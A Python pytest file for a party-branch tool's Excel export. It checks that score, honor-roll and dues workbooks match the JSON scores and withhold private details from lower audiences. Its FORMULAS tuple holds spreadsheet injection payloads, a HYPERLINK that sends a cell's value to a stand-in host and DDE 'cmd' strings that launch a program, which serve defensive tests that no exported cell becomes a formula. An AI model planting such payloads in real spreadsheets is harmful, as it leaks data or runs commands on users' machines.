"""`dangjian export`: workbooks that carry exactly the figures of `dangjian scores --json`."""

from __future__ import annotations

import argparse
import io
import json
import re
from pathlib import Path

import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from support import MONTH_END as AS_OF
from support import REPO, copy_sample, run_cli

from generator.cli import data as data_commands
from generator.tools.exporter import Column, add_table


def _cli(*argv) -> int:
    parser = argparse.ArgumentParser(prog="dangjian")
    data_commands.register(parser.add_subparsers(dest="command", required=True))
    args = parser.parse_args([str(a) for a in argv])
    return args.func(args)


def _scores_json(period: str) -> dict:
    done = run_cli("scores", REPO, "--period", period, "--as-of", AS_OF, "--json", cwd=REPO)
    assert done.returncode == 0, done.stderr
    return json.loads(done.stdout)


def _table(path: Path, sheet: str | None = None) -> tuple[str, list[str], list[list]]:
    book = openpyxl.load_workbook(path)
    ws = book[sheet] if sheet else book.active
    rows = [list(r) for r in ws.iter_rows(values_only=True)]
    assert ws.freeze_panes == "A3"  # title and header stay in view
    assert all(c.font.bold for c in ws[2] if c.value is not None)
    return rows[0][0], rows[1], rows[2:]


@pytest.mark.parametrize("period", ["2026-09", "2026-Q3", "2026"])
def test_scores_workbook_has_the_same_totals_and_ranks_as_scores_json(tmp_path, period):
    out = tmp_path / "积分.xlsx"
    assert _cli("export", "scores", REPO, "--period", period, "--as-of", AS_OF, "-o", out) == 0
    title, header, rows = _table(out)
    expected = _scores_json(period)
    assert "云溪示例能源有限公司机关第一党支部" in title
    assert header[:3] == ["名次", "编号", "姓名"]
    assert header[3:8] == expected["dimensions"]
    got = {r[1]: r for r in rows}
    assert set(got) == {m["id"] for m in expected["members"]}
    for m in expected["members"]:
        row = got[m["id"]]
        assert row[0] == m["rank"]  # None (empty cell) for a member kept off the ranking
        assert isinstance(row[header.index("总分")], float)  # numbers, not text
        assert row[header.index("总分")] == pytest.approx(m["total"], abs=1e-9)
        assert row[header.index("AHP得分")] == pytest.approx(m["ahp_total"], abs=1e-9)
        assert row[header.index("扣分")] == pytest.approx(m["deductions"], abs=1e-9)
        for k, d in enumerate(expected["dimensions"]):
            assert row[3 + k] == pytest.approx(m["dimensions"][d], abs=1e-9)
    ranks = [r[0] for r in rows if r[0] is not None]
    assert ranks == sorted(ranks)  # best first


def test_honor_roll_workbook_matches_the_honor_roll(tmp_path):
    out = tmp_path / "金榜.xlsx"
    assert _cli("export", "honor-roll", REPO, "--period", "2026-Q3", "--as-of", AS_OF, "-o", out) == 0
    title, header, rows = _table(out)
    expected = _scores_json("2026-Q3")["honor_roll"]
    assert "2026 年第 3 季度" in title and header[:3] == ["名次", "姓名", "总分"]
    assert [(r[0], r[1]) for r in rows] == [(e["rank"], e["name"]) for e in expected]
    assert [r[2] for r in rows] == pytest.approx([e["total"] for e in expected])
    _, star_header, stars = _table(out, "五力之星")
    assert star_header[0] == "称号" and stars


def test_public_export_never_holds_the_full_ranking(tmp_path, capsys):
    out = tmp_path / "积分.xlsx"
    assert _cli("export", "scores", REPO, "--period", "2026-09", "--audience", "public", "-o", out) == 2
    assert "金榜题名" in capsys.readouterr().err
    assert not out.exists()
    assert _cli("export", "scores", REPO, "--period", "2026-09", "--audience", "party", "-o", out) == 0
    _, header, _ = _table(out)
    assert "名次" not in header


def test_dues_workbook_has_monthly_aggregates_and_no_individual_amounts(tmp_path):
    out = tmp_path / "党费.xlsx"
    assert _cli("export", "dues", REPO, "--period", "2026", "--as-of", AS_OF, "-o", out) == 0
    title, header, rows = _table(out)
    assert "党费收缴" in title
    assert header[:6] == ["月份", "应交人数", "交纳人数", "当月按时交纳人数", "按时交纳率", "零点行动月"]
    by_month = {r[0]: r for r in rows}
    assert sorted(by_month) == [f"2026-{m:02d}" for m in range(1, 12)]
    july = by_month["2026-07"]
    assert july[5] == "是" and by_month["2026-09"][5] == "否"
    assert july[2] == 23 and 0 < july[4] <= 1
    # No member names or ids anywhere in the workbook: aggregates only.
    members = (REPO / "data" / "members.yml").read_text(encoding="utf-8")
    cells = {str(c) for r in rows for c in r if c is not None}
    assert not any(f"name: {c}" in members or f"id: {c}\n" in members for c in cells)


@pytest.mark.parametrize("audience", ["public", "party"])
def test_dues_totals_that_would_give_one_members_dues_are_not_exported(tmp_path, audience):
    """Two months' totals one payer apart give that payer's dues (and so their income): counts and rates only."""
    out = tmp_path / "党费.xlsx"
    assert _cli("export", "dues", REPO, "--period", "2026", "--as-of", AS_OF, "--audience", audience, "-o", out) == 0
    _title, header, rows = _table(out)
    assert not any("金额" in str(h) for h in header)
    assert all(len(r) == len(header) == 7 for r in rows)
    assert not any(isinstance(c, float) and c > 1 for r in rows for c in r), "only counts and shares"


def test_the_committee_export_keeps_the_monthly_total(tmp_path):
    out = tmp_path / "党费.xlsx"
    assert _cli("export", "dues", REPO, "--period", "2026", "--as-of", AS_OF, "--audience", "committee", "-o", out) == 0
    _title, header, rows = _table(out)
    assert header[-1] == "合计金额（元）" and any(r[-1] for r in rows)


def test_the_party_export_does_not_tell_who_is_kept_off_the_roll(tmp_path):
    """A high score missing from the roll tells of a disciplinary matter: the party sheet leaves such members out."""
    vetoed = _scores_json("2026")["members"]
    off_roll = [m for m in vetoed if m["rank"] is None]
    assert off_roll, "the sample has a member with a disciplinary matter in 2026"
    out = tmp_path / "积分.xlsx"
    assert _cli("export", "scores", REPO, "--period", "2026", "--as-of", AS_OF, "--audience", "party", "-o", out) == 0
    _, header, rows = _table(out)
    names = {r[header.index("姓名")] for r in rows}
    assert not names & {m["name"] for m in off_roll}
    assert len(rows) == len(vetoed) - len(off_roll)
    committee = tmp_path / "积分-支委.xlsx"
    assert _cli("export", "scores", REPO, "--period", "2026", "--as-of", AS_OF, "--audience", "committee", "-o", committee) == 0
    assert len(_table(committee)[2]) == len(vetoed)  # the committee sees everyone, with the reason column


FORMULAS = ('=HYPERLINK("http://x/?"&B2,"点我")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0")


def _plant_formulas(root: Path) -> dict[str, str]:
    """A copy of the sample whose branch and every member is named like a formula; their names by id."""
    copy_sample(root)
    branch = root / "data" / "branch.yml"
    branch.write_text(re.sub(r"(?m)^name: .*$", f"name: {json.dumps(FORMULAS[0] + '支部', ensure_ascii=False)}",
                             branch.read_text(encoding="utf-8")), encoding="utf-8")
    members = root / "data" / "members.yml"
    names: dict[str, str] = {}
    lines = members.read_text(encoding="utf-8").split("\n")
    member_id = ""
    for k, line in enumerate(lines):
        if line.startswith("- id: "):
            member_id = line[len("- id: "):].split()[0]
        elif line.startswith("  name: "):
            names[member_id] = FORMULAS[len(names) % len(FORMULAS)] + member_id
            lines[k] = f"  name: {json.dumps(names[member_id], ensure_ascii=False)}"
    members.write_text("\n".join(lines), encoding="utf-8")
    return names


def test_no_export_writes_a_formula_whatever_the_names_say(tmp_path):
    """A member or branch named `=HYPERLINK(...)` stays text in every workbook, for every audience."""
    root = tmp_path / "支部"
    names = _plant_formulas(root)
    exports = [("scores", "committee"), ("scores", "party"), ("honor-roll", "public"), ("honor-roll", "party"),
               ("honor-roll", "committee"), ("dues", "public"), ("dues", "committee")]
    seen: set[str] = set()
    for what, audience in exports:
        out = tmp_path / f"{what}-{audience}.xlsx"
        assert _cli("export", what, root, "--period", "2026", "--as-of", AS_OF, "--audience", audience, "-o", out) == 0
        for ws in openpyxl.load_workbook(out).worksheets:
            for row in ws.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", f"{out.name}!{cell.coordinate}: {cell.value!r}"
                    if isinstance(cell.value, str):
                        seen.add(cell.value)
                        if cell.value.startswith(("=", "+", "-", "@")):
                            assert cell.quotePrefix, f"{out.name}!{cell.coordinate}: Excel would make it a formula on edit"
    assert set(names.values()) <= seen  # every member's name is in the scores sheet, as written
    assert any(v.startswith(FORMULAS[0] + "支部") for v in seen)  # the title rows name the branch as written


@settings(max_examples=60, deadline=None)
@given(st.sampled_from(["=", "+", "-", "@"]),
       st.text(st.characters(blacklist_categories=("Cc", "Cs")), max_size=40))
def test_every_text_cell_of_a_table_is_text(start, rest):
    """Title, heading and body cells all go through one writer: none can become a formula."""
    text = start + rest
    book = openpyxl.Workbook()
    add_table(book, "表", text, [Column(text), Column("分", "0.00")], [[text, 1.5], [text + "2", -3.0]], first=True)
    buffer = io.BytesIO()
    book.save(buffer)
    ws = openpyxl.load_workbook(io.BytesIO(buffer.getvalue())).active
    cells = [c for row in ws.iter_rows() for c in row if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert [c.value for c in cells] == [text, text, "分", text, 1.5, text + "2", -3.0]
